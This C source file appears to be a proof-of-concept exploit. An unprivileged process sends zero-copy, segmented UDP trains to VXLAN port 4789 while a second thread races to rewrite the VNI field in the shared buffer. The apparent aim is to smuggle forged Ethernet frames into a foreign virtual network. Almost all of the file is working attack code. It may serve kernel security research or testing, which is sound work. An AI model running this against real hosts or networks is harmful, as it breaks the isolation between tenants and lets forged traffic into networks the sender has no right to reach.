// SPDX-License-Identifier: GPL-2.0
/*
 * shared_train PEER VNI DST_MAC COUNT SPIN: a process without rights sends trains of UDP datagrams (UDP_SEGMENT) to
 * port 4789 out of memory that it shares with the kernel (MSG_ZEROCOPY). All say a foreign VNI; meanwhile a thread
 * writes VNI into those behind the first, and back, SPIN rounds of a loop apart. SPIN 0: it does not.
 */
#include <arpa/inet.h>
#include <linux/errqueue.h>
#include <netinet/udp.h>
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <unistd.h>

#ifndef UDP_SEGMENT
#define UDP_SEGMENT 103
#endif

enum { SIZE = 1024, TRAIN = 4, FOREIGN = 77 };

static unsigned char *train;
static uint32_t ours;
static volatile int stop;
static int spin;

static void say(uint32_t vni)
{
	for (int k = 1; k < TRAIN; k++)
		*(volatile uint32_t *)(void *)(train + k * SIZE + 4) = vni;
	for (volatile int i = 0; i < spin; i++)
		;
}

static void *flip(void *unused)
{
	while (!stop) {
		say(ours);
		say(htonl(FOREIGN << 8));
	}
	return unused;
}

static void fill(const char *mac)
{
	unsigned m[6] = { 0 };

	sscanf(mac, "%x:%x:%x:%x:%x:%x", m, m + 1, m + 2, m + 3, m + 4, m + 5);
	for (int k = 0; k < TRAIN; k++) {
		unsigned char *p = train + k * SIZE;

		p[0] = 8;
		p[6] = FOREIGN;
		for (int i = 0; i < 6; i++)
			p[8 + i] = (unsigned char)m[i];
		memcpy(p + 14,
		       "\x02\xee\0\0\0\x02\x88\xb5"
		       "forged",
		       14);
	}
}

int main(int argc, char **argv)
{
	struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons(4789) };
	int s = socket(AF_INET, SOCK_DGRAM, 0), on = 1, size = SIZE, sent = 0;
	pthread_t thread;
	char control[256];

	if (argc != 6 || inet_pton(AF_INET, argv[1], &to.sin_addr) != 1)
		return 2;
	ours = htonl((uint32_t)atoi(argv[2]) << 8);
	spin = atoi(argv[5]);
	train = mmap(NULL, SIZE * TRAIN, PROT_READ | PROT_WRITE,
		     MAP_PRIVATE | MAP_ANONYMOUS | MAP_POPULATE, -1, 0);
	if (train == MAP_FAILED || setsockopt(s, SOL_SOCKET, SO_ZEROCOPY, &on, sizeof(on)) ||
	    setsockopt(s, IPPROTO_UDP, UDP_SEGMENT, &size, sizeof(size)) ||
	    connect(s, (struct sockaddr *)&to, sizeof(to)))
		return 1;
	fill(argv[3]);
	if (spin && pthread_create(&thread, NULL, flip, NULL))
		return 1;
	for (int i = atoi(argv[4]); i > 0; i--) {
		struct msghdr h = { .msg_control = control, .msg_controllen = sizeof(control) };

		sent += send(s, train, SIZE * TRAIN, MSG_ZEROCOPY) > 0;
		usleep(500);
		while (recvmsg(s, &h, MSG_ERRQUEUE | MSG_DONTWAIT) >= 0)
			h.msg_controllen = sizeof(control);
	}
	stop = 1;
	printf("%d trains\n", sent);
	return 0;
}
